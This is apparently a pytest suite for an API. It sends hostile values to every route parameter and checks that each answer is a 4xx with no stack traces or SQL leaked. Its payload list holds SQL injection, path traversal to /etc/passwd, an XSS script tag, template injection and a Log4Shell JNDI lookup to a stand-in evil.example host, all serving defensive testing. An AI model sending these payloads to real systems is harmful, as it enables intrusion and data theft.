"""Hostile values in every path and query parameter of every route: a 4xx (or, for free-text
search, simply no match), never a 500, and no stack trace, SQL or file path in the answer."""

from __future__ import annotations

import base64
import re
import uuid
from urllib.parse import quote

import pytest

from api import access

pytestmark = pytest.mark.slow  # hundreds of hostile requests

PAYLOADS = [
    "' OR '1'='1", "1; DROP TABLE systems; --", "\" OR \"\"=\"", "../../../../etc/passwd", "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "\x00", "%00", "-1", "99999999999999999999999999", "1e309", "NaN",
    "é" * 300, "a" * 5000,
    # cursors forged to decode: a negative offset, a wrong shape, a huge number
    base64.urlsafe_b64encode(b"-5").decode().rstrip("="), base64.urlsafe_b64encode(b'[["x"]]').decode().rstrip("="),
    base64.urlsafe_b64encode(b"1e400").decode().rstrip("="),
]
LEAKS = re.compile(r"Traceback|File \"|\.py\b|sqlite3|psycopg|asyncpg|SELECT |INSERT |syntax error|/work/|site-packages", re.I)
FREE_TEXT = {("listSystems", "q"), ("listPeople", "q")}  # searched as text: a hostile value just matches nothing


@pytest.fixture
def reader(api):
    return api.as_person(uuid.uuid4(), "council", "auditor")


def operations(app):
    schema = app.openapi_schema.to_schema()
    for method, template, handler in access.routes(app):
        path = re.sub(r"\{(\w+):\w+\}", r"{\1}", template)
        operation = schema["paths"].get(path, {}).get(method.lower(), {})
        yield method, template, handler, operation.get("parameters", [])


def assert_no_leak(response, what: str) -> None:
    assert response.status_code < 500, f"{what}: {response.status_code} {response.text[:300]}"
    assert not LEAKS.search(response.text), f"{what} leaks internals: {response.text[:500]}"


def test_hostile_path_parameters_are_4xx_and_leak_nothing(api, reader):
    for method, template, handler, _ in operations(api.client.app):
        client = reader if method == "GET" else api
        for name in re.findall(r"\{(\w+):\w+\}", template):
            for payload in PAYLOADS:
                path = template.replace(re.search(r"\{" + name + r":\w+\}", template).group(0), quote(payload, safe=""))
                path = re.sub(r"\{(\w+):\w+\}", lambda m: str(uuid.uuid4()), path)
                response = api.client.request(method, path, json={} if method != "GET" else None, headers=client.headers)
                assert_no_leak(response, f"{method} {template} {name}={payload[:20]!r}")
                assert 400 <= response.status_code < 500, f"{method} {template} {name}={payload[:20]!r}: {response.status_code}"


def test_hostile_query_parameters_are_4xx_and_leak_nothing(api, reader):
    kommune = api.org_unit("Testkommune", "kommune")
    api.system("Lønsystem", kommune)
    for method, template, handler, parameters in operations(api.client.app):
        path = re.sub(r"\{(\w+):\w+\}", lambda m: str(uuid.uuid4()), template)
        for parameter in (p for p in parameters if p["in"] == "query"):
            for payload in PAYLOADS:
                what = f"{method} {template}?{parameter['name']}={payload[:20]!r}"
                response = api.client.request(method, path, params={parameter["name"]: payload}, headers=reader.headers)
                assert_no_leak(response, what)
                if (handler.operation_id, parameter["name"]) in FREE_TEXT and response.status_code == 200:
                    assert response.json()["items"] == [], what
                elif response.status_code != 404:  # an unknown id in the path may answer first
                    assert 400 <= response.status_code < 500, f"{what}: {response.status_code}"
